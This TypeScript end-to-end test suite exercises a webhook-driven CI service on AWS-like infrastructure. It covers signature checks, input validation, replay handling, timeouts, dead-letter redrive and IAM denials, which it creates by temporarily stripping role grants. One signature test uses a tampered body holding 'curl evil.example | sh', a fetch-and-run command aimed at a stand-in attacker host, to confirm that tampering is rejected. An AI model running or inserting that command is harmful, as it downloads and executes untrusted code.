// iac-ci deployed as `npm start -- iac-ci` deploys it (00-bootstrap, 01-ecr, the image pushed,
// 02-deploy), driven through its webhook: the smoke steps, then the failure paths a user meets
// (bad signatures and input, replays, a run past its timeout, a result that never arrives, the
// orchestrator's dead-letter queue) and IAM denials on the deployed roles.
import { CodeBuildClient, ListBuildsForProjectCommand } from "@aws-sdk/client-codebuild";
import { GetRolePolicyCommand, IAMClient, ListRolePoliciesCommand, PutRolePolicyCommand } from "@aws-sdk/client-iam";
import { GetFunctionConfigurationCommand, InvokeCommand, LambdaClient } from "@aws-sdk/client-lambda";
import { DescribeExecutionCommand, StartExecutionCommand } from "@aws-sdk/client-sfn";
import { DeleteMessageCommand, GetQueueUrlCommand, ReceiveMessageCommand, SQSClient } from "@aws-sdk/client-sqs";
import {
  doneKey,
  ORDER_STATUS,
  payloadKey,
  RUN_LIMITS,
  resultKey,
  WEBHOOK_LIMITS,
} from "../../../lambdas/iac-ci/contract";
import { signBody } from "../../../lambdas/iac-ci/lib/signature";
import { orderIdFor } from "../../../lambdas/iac-ci/process_webhook";
import { deploySystem, smokeStepsAsTests } from "../../support/e2e";
import type { SmokeContext } from "../../support/smoke";
import { waitFor } from "../../support/smoke";
import { type GitHubPayload, githubExample } from "../support/github";
import {
  acceptedOrder,
  bucketNames,
  clients,
  deliver,
  deliverFromGitHub,
  eventRows,
  eventTypes,
  finishedOrder,
  freshDelivery,
  functionNames,
  GITHUB_PULL_REQUEST,
  GITHUB_PUSH,
  logLines,
  type OrderBody,
  objectExists,
  objectJson,
  orderRow,
  regionOf,
  STACK,
  smoke,
  watchdogEnded,
  watchdogExecutionArn,
  webhookSecret,
} from "./smoke";

// Wait states at 1/20: the watchdog polls every 3 s instead of 60 s (its deadline stays real).
const deployed = deploySystem("iac-ci", { LOCALCLOUD_SFN_WAIT_SCALE: "0.05" });

smokeStepsAsTests(smoke, deployed);

const target = (what: string) => `e2e/${what}/${Date.now()}`;
const list = (v: string | string[]) => (Array.isArray(v) ? v : [v]);

/** Nothing of a delivery's order was written: no orders row, no events, no payload. */
async function nothingWritten(ctx: SmokeContext, deliveryId: string) {
  const orderId = orderIdFor(deliveryId);
  expect(await orderRow(ctx, orderId)).toBeUndefined();
  expect(await eventRows(ctx, orderId)).toEqual([]);
  expect(await objectExists(ctx, bucketNames(ctx).internal, payloadKey(orderId))).toBe(false);
}

interface Statement {
  Sid?: string;
  Effect: string;
  Action: string | string[];
  Resource: string | string[];
}

/**
 * Runs `body` while the function's role lacks `action` in its statement `sid` (the deployed
 * inline policy re-put without it), then puts the deployed policy back whatever happened.
 */
async function withoutGrant<T>(
  ctx: SmokeContext,
  fn: string,
  sid: string,
  action: string,
  body: (roleName: string) => Promise<T>,
): Promise<T> {
  const config = ctx.clientConfig(regionOf(ctx));
  const iam = new IAMClient(config);
  const role = (await new LambdaClient(config).send(new GetFunctionConfigurationCommand({ FunctionName: fn }))).Role;
  const roleName = String(role).split("/").pop() as string;
  const { PolicyNames = [] } = await iam.send(new ListRolePoliciesCommand({ RoleName: roleName }));
  for (const PolicyName of PolicyNames) {
    const got = await iam.send(new GetRolePolicyCommand({ RoleName: roleName, PolicyName }));
    const original = decodeURIComponent(got.PolicyDocument as string);
    const doc = JSON.parse(original) as { Statement: Statement[] };
    const statement = doc.Statement.find((s) => s.Sid === sid);
    if (!statement) continue;
    expect(list(statement.Action)).toContain(action);
    statement.Action = list(statement.Action).filter((a) => a !== action);
    await iam.send(new PutRolePolicyCommand({ RoleName: roleName, PolicyName, PolicyDocument: JSON.stringify(doc) }));
    try {
      return await body(roleName);
    } finally {
      await iam.send(new PutRolePolicyCommand({ RoleName: roleName, PolicyName, PolicyDocument: original }));
    }
  }
  throw new Error(`no statement ${sid} in the policies of ${roleName} (${PolicyNames.join(", ")})`);
}

const deniedMessage = (roleName: string, action: string) =>
  new RegExp(`assumed-role/${roleName}/\\S+ is not authorized to perform: ${action} on resource: `);

describe("webhook requests that are refused write nothing", () => {
  test("GIVEN no signature, another secret's signature or a malformed one WHEN posted to the API or the function URL THEN 401 and nothing is written", async () => {
    const ctx = deployed.ctx();
    const body: OrderBody = { order_name: target("unsigned"), commands: ["echo never"] };
    for (const to of ["api", "function-url"] as const) {
      for (const [how, options] of [
        ["missing", { secret: null }],
        ["another secret", { secret: "an-old-rotated-secret" }],
        ["malformed", { signature: "sha1=0123" }],
      ] as const) {
        const deliveryId = freshDelivery(`401-${to}`);
        const reply = await deliver(ctx, body, { to, deliveryId, ...options });
        expect({ to, how, status: reply.status, body: reply.json() }).toEqual({
          to,
          how,
          status: 401,
          body: { error: "unauthorized", message: "missing or invalid X-Hub-Signature-256" },
        });
        await nothingWritten(ctx, deliveryId);
      }
    }
    // Signed over other bytes than those sent (a body altered on the way).
    const secret = await webhookSecret(ctx);
    const deliveryId = freshDelivery("401-altered");
    const signedFor = JSON.stringify(body);
    const altered = await deliver(ctx, undefined, {
      deliveryId,
      raw: JSON.stringify({ ...body, commands: ["curl evil.example | sh"] }),
      signature: signBody(secret, Buffer.from(signedFor)),
    });
    expect(altered.status).toBe(401);
    await nothingWritten(ctx, deliveryId);
  }, 60_000);

  test("GIVEN a signed delivery with bad input THEN 415/400 naming the field, 413 for a huge body, and nothing is written", async () => {
    const ctx = deployed.ctx();
    const secret = await webhookSecret(ctx);
    const good: OrderBody = { order_name: target("input"), commands: ["echo ok"] };
    const cases: Array<[string, OrderBody | undefined, Parameters<typeof deliver>[2], number, string | undefined]> = [
      ["form content type", good, { contentType: "application/x-www-form-urlencoded" }, 415, undefined],
      ["no delivery id", good, {}, 400, "X-GitHub-Delivery"],
      ["malformed JSON", undefined, { raw: '{"order_name": "x", ' }, 400, "body"],
      ["unknown field", { ...good, timeout: 5 } as unknown as OrderBody, {}, 400, "timeout"],
      ["no commands", { ...good, commands: [] }, {}, 400, "commands"],
      ["bad runner", { ...good, runner: "docker" } as unknown as OrderBody, {}, 400, "runner"],
      [
        "timeout above the lambda runner's limit",
        { ...good, timeout_seconds: RUN_LIMITS.lambda.maxTimeoutSeconds + 1 },
        {},
        400,
        "timeout_seconds",
      ],
      ["bad order name", { ...good, order_name: "-starts-with-a-dash" }, {}, 400, "order_name"],
      [
        "body over the limit",
        undefined,
        { raw: JSON.stringify({ ...good, commands: ["x".repeat(WEBHOOK_LIMITS.maxBodyBytes)] }) },
        413,
        undefined,
      ],
    ];
    for (const [what, body, options, status, field] of cases) {
      const deliveryId = what === "no delivery id" ? undefined : freshDelivery("bad-input");
      const reply = await deliver(ctx, body, { secret, deliveryId, ...options });
      expect({ what, status: reply.status }).toEqual({ what, status });
      if (field !== undefined) expect({ what, field: reply.json().field }).toEqual({ what, field });
      if (deliveryId) await nothingWritten(ctx, deliveryId);
    }
  }, 60_000);

  test("GIVEN a delivery id already used WHEN it comes again with another body THEN 409 naming the order, which is left as it was", async () => {
    const ctx = deployed.ctx();
    const secret = await webhookSecret(ctx);
    const deliveryId = freshDelivery("reused");
    const orderId = await acceptedOrder(
      ctx,
      { order_name: target("reused"), commands: ["echo first"] },
      { deliveryId, secret },
    );
    const first = await finishedOrder(ctx, orderId);
    const reply = await deliver(
      ctx,
      { order_name: target("reused"), commands: ["echo other"] },
      { deliveryId, secret },
    );
    expect(reply.status).toBe(409);
    expect(reply.json()).toMatchObject({ error: "conflict", order_id: orderId });
    expect(await orderRow(ctx, orderId)).toEqual(first);
  }, 90_000);
});

describe("GitHub deliveries that start nothing", () => {
  test("GIVEN GitHub's issues event, a tag deletion, a labeled pull request or a forged push WHEN posted to the API and the function URL THEN 202 with the reason (401 forged) and nothing is written", async () => {
    const ctx = deployed.ctx();
    const secret = await webhookSecret(ctx);
    const cases: Array<[string, GitHubPayload, string]> = [
      ["issues", githubExample("issues", (e) => e.action === "opened", "opened"), "issues events start no run"],
      ["push", githubExample("push", (e) => e.deleted === true, "deleting a tag"), "push deleted refs/tags/simple-tag"],
      ["pull_request", GITHUB_PULL_REQUEST("labeled"), "pull_request action labeled changes no code"],
    ];
    for (const to of ["api", "function-url"] as const) {
      for (const [event, payload, reason] of cases) {
        const { reply, deliveryId } = await deliverFromGitHub(ctx, event, payload, { secret, to });
        expect([to, event, reply.status]).toEqual([to, event, 202]);
        expect(reply.json()).toEqual({ ignored: true, event, reason: expect.stringContaining(reason) });
        await nothingWritten(ctx, deliveryId);
      }
      const forged = await deliverFromGitHub(ctx, "push", GITHUB_PUSH(), { secret: "another-secret", to });
      expect([to, forged.reply.status, forged.reply.json().error]).toEqual([to, 401, "unauthorized"]);
      await nothingWritten(ctx, forged.deliveryId);
    }
  });
});

describe("replays and one run per target", () => {
  test("GIVEN one delivery sent three times at once and again later, and a second order for the same target WHEN they run THEN the order runs once and the second waits for it", async () => {
    const ctx = deployed.ctx();
    const secret = await webhookSecret(ctx);
    const name = target("replay");
    const deliveryId = freshDelivery("replay");
    const body: OrderBody = { order_name: name, commands: ["sleep 4", "echo once"], timeout_seconds: 60 };
    const replies = await Promise.all([1, 2, 3].map(() => deliver(ctx, body, { deliveryId, secret })));
    const orderId = orderIdFor(deliveryId);
    expect(replies.map((r) => [r.status, r.json().order_id])).toEqual([1, 2, 3].map(() => [202, orderId]));
    expect(replies.filter((r) => r.json().duplicate === false)).toHaveLength(1);

    await waitFor("the order to run", async () =>
      (await orderRow(ctx, orderId))?.status === ORDER_STATUS.running ? true : undefined,
    );
    const again = await deliver(ctx, body, { deliveryId, secret });
    expect([again.status, again.json().duplicate, again.json().status]).toEqual([202, true, ORDER_STATUS.running]);
    const nextId = await acceptedOrder(
      ctx,
      { order_name: name, commands: ["echo next"] },
      { deliveryId: freshDelivery("replay-next"), secret },
    );
    const waiting = await waitFor("the second order's waiting event", async () =>
      (await eventRows(ctx, nextId)).find((e) => e.type === "waiting"),
    );
    expect(waiting).toMatchObject({ status: ORDER_STATUS.queued, blocked_by: orderId });

    const first = await finishedOrder(ctx, orderId);
    const next = await finishedOrder(ctx, nextId);
    expect([first.status, next.status]).toEqual([ORDER_STATUS.succeeded, ORDER_STATUS.succeeded]);
    expect(String(next.started_at) >= String(first.finished_at)).toBe(true);
    expect(await eventTypes(ctx, orderId)).toEqual(["received", "started", "finished"]);
    const runs = (await logLines(ctx, functionNames(ctx).worker, orderId)).filter((l) => l.msg === "run starting");
    expect(runs).toHaveLength(1);
    const done = await objectJson<{ result: { commands: Array<{ stdout_tail: string }> } }>(
      ctx,
      bucketNames(ctx).done,
      doneKey(orderId),
    );
    expect(done?.result.commands.map((c) => c.stdout_tail)).toEqual(["", "once\n"]);
  }, 120_000);
});

describe("runs that do not finish in time", () => {
  test("GIVEN a command that outlives the order's timeout_seconds THEN the worker stops it and the order ends timed_out", async () => {
    const ctx = deployed.ctx();
    const secret = await webhookSecret(ctx);
    const orderId = await acceptedOrder(
      ctx,
      { order_name: target("slow"), commands: ["sleep 30", "echo never reached"], timeout_seconds: 1 },
      { deliveryId: freshDelivery("slow"), secret },
    );
    const row = await finishedOrder(ctx, orderId, 30_000);
    expect(row).toMatchObject({ status: ORDER_STATUS.timedOut, reason: "command 0 exceeded the time budget of 1 s" });
    const done = await objectJson<{ status: string; result: { source: string; commands: unknown[] } }>(
      ctx,
      bucketNames(ctx).done,
      doneKey(orderId),
    );
    expect(done).toMatchObject({ status: ORDER_STATUS.timedOut, result: { source: "lambda" } });
    expect(done?.result.commands).toHaveLength(1);
    expect((await watchdogEnded(ctx, orderId, 30_000)).status).toBe("SUCCEEDED");
  }, 60_000);

  test("GIVEN the orchestrator's role without s3:PutObject on results WHEN the worker reports THEN its callback is refused and the watchdog times the order out at its deadline", async () => {
    const ctx = deployed.ctx();
    const secret = await webhookSecret(ctx);
    const fns = functionNames(ctx);
    let orderId = "";
    // The worker PUTs through a URL the orchestrator presigned: the orchestrator's role decides.
    await withoutGrant(ctx, fns.orchestrator, "ReadWriteInternalBucketTmpCallbacksRuns", "s3:PutObject", async () => {
      orderId = await acceptedOrder(
        ctx,
        { order_name: target("lost"), commands: ["echo the result is lost"], timeout_seconds: 1 },
        { deliveryId: freshDelivery("lost"), secret },
      );
      const failed = await waitFor("the worker's failed delivery", async () =>
        (await logLines(ctx, fns.worker, orderId)).find((l) => l.msg.startsWith("result delivery failed")),
      );
      expect(failed).toMatchObject({ level: "error", reason: "HTTP 403" });
    });
    expect(await objectExists(ctx, bucketNames(ctx).internal, resultKey(orderId))).toBe(false);
    expect((await orderRow(ctx, orderId))?.status).toBe(ORDER_STATUS.running);
    // Deadline: timeout_seconds + the lambda runner's grace (121 s after the start).
    const deadline = Number((await orderRow(ctx, orderId))?.deadline);
    expect(deadline - Date.now() / 1000).toBeGreaterThan(RUN_LIMITS.lambda.deadlineGraceSeconds - 30);
    const row = await finishedOrder(ctx, orderId, (RUN_LIMITS.lambda.deadlineGraceSeconds + 60) * 1000);
    expect(row.status).toBe(ORDER_STATUS.timedOut);
    expect(row.reason).toMatch(/^no result by the deadline /);
    expect(Date.now() / 1000).toBeGreaterThanOrEqual(deadline);
    const result = await objectJson<{ source: string }>(ctx, bucketNames(ctx).internal, resultKey(orderId));
    expect(result?.source).toBe("watchdog");
    expect((await objectJson<{ status: string }>(ctx, bucketNames(ctx).done, doneKey(orderId)))?.status).toBe(
      ORDER_STATUS.timedOut,
    );
    expect((await watchdogEnded(ctx, orderId, 30_000)).status).toBe("SUCCEEDED");

    // With the grant back, a run reports again.
    const passing = await acceptedOrder(
      ctx,
      { order_name: target("lost"), commands: ["echo reported"] },
      { deliveryId: freshDelivery("lost-again"), secret },
    );
    expect((await finishedOrder(ctx, passing)).status).toBe(ORDER_STATUS.succeeded);
  }, 300_000);

  test("GIVEN watchdog input that names no order WHEN the state machine is started by hand THEN the execution fails with watchdog_check's error", async () => {
    const ctx = deployed.ctx();
    const sfn = clients(ctx).sfn;
    const name = `bad-input-${Date.now()}`;
    const { executionArn } = await sfn.send(
      new StartExecutionCommand({
        stateMachineArn: ctx.output(STACK, "step_function_arn"),
        name,
        input: JSON.stringify({ orderId: "not-an-order", deadline: 0 }),
      }),
    );
    const execution = await waitFor("the execution to end", async () => {
      const e = await sfn.send(new DescribeExecutionCommand({ executionArn }));
      return e.status === "RUNNING" ? undefined : e;
    });
    expect(execution.status).toBe("FAILED");
    expect(execution.error).toBe("Error");
    expect(execution.cause).toContain("watchdog input: orderId must be an order id");
  }, 60_000);
});

describe("IAM on the deployed roles", () => {
  test("GIVEN process_webhook's role without dynamodb:PutItem on orders WHEN an order is posted THEN 500, AccessDenied in its log, no order; restored, the same delivery passes", async () => {
    const ctx = deployed.ctx();
    const secret = await webhookSecret(ctx);
    const fn = functionNames(ctx).process_webhook;
    const deliveryId = freshDelivery("denied");
    const orderId = orderIdFor(deliveryId);
    const body: OrderBody = { order_name: target("denied"), commands: ["echo after the fix"] };
    const since = Date.now() - 1000;
    await withoutGrant(ctx, fn, "GetPutQueryOrdersTable", "dynamodb:PutItem", async (roleName) => {
      const reply = await deliver(ctx, body, { deliveryId, secret });
      expect(reply.status).toBe(500);
      expect(reply.json()).toMatchObject({ error: "internal_error" });
      const failure = await waitFor("process_webhook's request failed log line", async () =>
        (await logLines(ctx, fn, undefined, since)).find((l) => l.msg === "request failed"),
      );
      expect(failure).toMatchObject({ level: "error", error: "AccessDeniedException" });
      expect(String(failure.reason)).toMatch(deniedMessage(roleName, "dynamodb:PutItem"));
      expect(String(failure.reason)).toContain(`table/${JSON.parse(ctx.output(STACK, "dynamodb_table_names")).orders}`);
      expect(await orderRow(ctx, orderId)).toBeUndefined();
    });
    // The sender retries the delivery (same id, same body): the stored payload is reused.
    const retried = await deliver(ctx, body, { deliveryId, secret });
    expect([retried.status, retried.json().order_id]).toEqual([202, orderId]);
    expect((await finishedOrder(ctx, orderId)).status).toBe(ORDER_STATUS.succeeded);
  }, 120_000);

  test("GIVEN the orchestrator's role without dynamodb:GetItem on orders WHEN an order is posted THEN its event goes to the orchestrator's DLQ after Lambda's retries; restored, redriving it twice runs the order once", async () => {
    const ctx = deployed.ctx();
    const config = ctx.clientConfig(regionOf(ctx));
    const lambda = new LambdaClient(config);
    const sqs = new SQSClient(config);
    const secret = await webhookSecret(ctx);
    const fn = functionNames(ctx).orchestrator;
    const dlqArn = (await lambda.send(new GetFunctionConfigurationCommand({ FunctionName: fn }))).DeadLetterConfig
      ?.TargetArn;
    expect(dlqArn).toMatch(/:iac-ci-[a-z]+-orchestrator-dlq$/);
    const { QueueUrl } = await sqs.send(new GetQueueUrlCommand({ QueueName: String(dlqArn).split(":").pop() }));
    let orderId = "";
    let dead: { body: string; error: string; receipt: string } | undefined;
    await withoutGrant(ctx, fn, "ReadWriteOrdersTable", "dynamodb:GetItem", async (roleName) => {
      orderId = await acceptedOrder(
        ctx,
        { order_name: target("dlq"), commands: ["echo redriven"] },
        { deliveryId: freshDelivery("dlq"), secret },
      );
      dead = await waitFor(
        "the orchestrator's event in its DLQ",
        async () => {
          const out = await sqs.send(
            new ReceiveMessageCommand({
              QueueUrl,
              MaxNumberOfMessages: 10,
              MessageAttributeNames: ["All"],
              WaitTimeSeconds: 1,
            }),
          );
          const m = (out.Messages ?? []).find((x) => JSON.parse(x.Body ?? "{}").orderId === orderId);
          return m
            ? {
                body: String(m.Body),
                error: String(m.MessageAttributes?.ErrorMessage?.StringValue),
                receipt: String(m.ReceiptHandle),
              }
            : undefined;
        },
        30_000,
      );
      expect(JSON.parse(dead.body)).toEqual({ type: "order", orderId });
      expect(dead.error).toMatch(deniedMessage(roleName, "dynamodb:GetItem"));
      expect((await orderRow(ctx, orderId))?.status).toBe(ORDER_STATUS.queued);
    });
    // Lambda delivers asynchronous events at least once: a redrive may run twice at once.
    const message = dead as NonNullable<typeof dead>;
    await Promise.all(
      [1, 2].map(() =>
        lambda.send(
          new InvokeCommand({ FunctionName: fn, InvocationType: "Event", Payload: Buffer.from(message.body) }),
        ),
      ),
    );
    await sqs.send(new DeleteMessageCommand({ QueueUrl, ReceiptHandle: message.receipt }));
    expect((await finishedOrder(ctx, orderId)).status).toBe(ORDER_STATUS.succeeded);
    expect(await eventTypes(ctx, orderId)).toEqual(["received", "started", "finished"]);
    const runs = (await logLines(ctx, functionNames(ctx).worker, orderId)).filter((l) => l.msg === "run starting");
    expect(runs).toHaveLength(1);
  }, 120_000);
});

describe("the CodeBuild runner on the local cloud", () => {
  test("GIVEN a codebuild order THEN the orchestrator starts a build of the runner project and the watchdog guards it (the local cloud runs no build)", async () => {
    const ctx = deployed.ctx();
    const secret = await webhookSecret(ctx);
    const orderId = await acceptedOrder(
      ctx,
      { order_name: target("codebuild"), commands: ["echo in codebuild"], runner: "codebuild", timeout_seconds: 60 },
      { deliveryId: freshDelivery("codebuild"), secret },
    );
    const row = await waitFor("the build to be started", async () => {
      const r = await orderRow(ctx, orderId);
      return r?.dispatch_ref ? r : undefined;
    });
    expect(row.status).toBe(ORDER_STATUS.running);
    const buildId = String(row.dispatch_ref).replace(/^codebuild:/, "");
    const project = ctx.output(STACK, "codebuild_project_name");
    expect(buildId.startsWith(`${project}:`)).toBe(true);
    const builds = await new CodeBuildClient(ctx.clientConfig(regionOf(ctx))).send(
      new ListBuildsForProjectCommand({ projectName: project }),
    );
    expect(builds.ids).toContain(buildId);
    // moto's CodeBuild records the build but never runs it, so no result comes: the watchdog
    // would time the order out at its deadline (timeout + the codebuild grace).
    expect(Number(row.deadline) - Date.parse(String(row.started_at)) / 1000).toBeGreaterThanOrEqual(
      60 + RUN_LIMITS.codebuild.deadlineGraceSeconds - 1,
    );
    const watchdog = await clients(ctx).sfn.send(
      new DescribeExecutionCommand({ executionArn: watchdogExecutionArn(ctx, orderId) }),
    );
    expect(watchdog.status).toBe("RUNNING");
  }, 60_000);
});
